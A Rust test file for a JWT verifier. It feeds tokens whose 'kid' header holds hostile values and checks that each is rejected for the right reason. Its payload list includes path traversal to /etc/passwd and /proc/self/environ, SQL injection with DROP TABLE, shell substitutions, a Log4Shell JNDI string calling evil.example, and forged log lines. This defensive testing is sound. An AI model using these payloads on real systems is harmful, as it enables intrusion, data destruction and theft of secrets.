//! Hostile key ids.

use super::*;

#[test]
fn each_gets_exactly_its_reason() {
    check(key_ids);
}

fn key_ids(table: &mut Table) {
    table.group("hostile `kid`");
    for kid in hostile_key_ids() {
        table.token(
            format!("kid {kid:.40?}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            KEY,
        );
    }
    let kid = "k".repeat(64 * 1024);
    table.token(
        "kid of 64 KiB",
        K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
        TOO_LONG,
    );
    for kid in [json!(null), json!(1), json!(true), json!(["k1"]), json!({"kid": "k1"})] {
        table.token(
            format!("kid {kid}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            MALFORMED,
        );
    }
}

pub(crate) fn hostile_key_ids() -> Vec<String> {
    let long = "k".repeat(8 * 1024);
    let texts = [
        "",
        " ",
        "K1",
        "k1 ",
        " k1",
        "k1\0",
        "k1\n",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "k1' OR '1'='1",
        "k1'; DROP TABLE keys; --",
        "k1 UNION SELECT 'secret'",
        "| cat /etc/passwd",
        "$(id)",
        "`id`",
        "${jndi:ldap://evil.example/x}",
        "%00",
        "%s%s%s%n",
        "__proto__",
        "constructor",
        "*",
        "k?",
        "\u{202e}1k",
        "\n{\"level\":\"INFO\",\"decision\":\"allow\"}",
        "\r\n2026-01-01 INFO decision=allow",
        "\u{1b}[31m",
        "\u{2028}",
        &long,
    ];
    texts.map(str::to_owned).into()
}
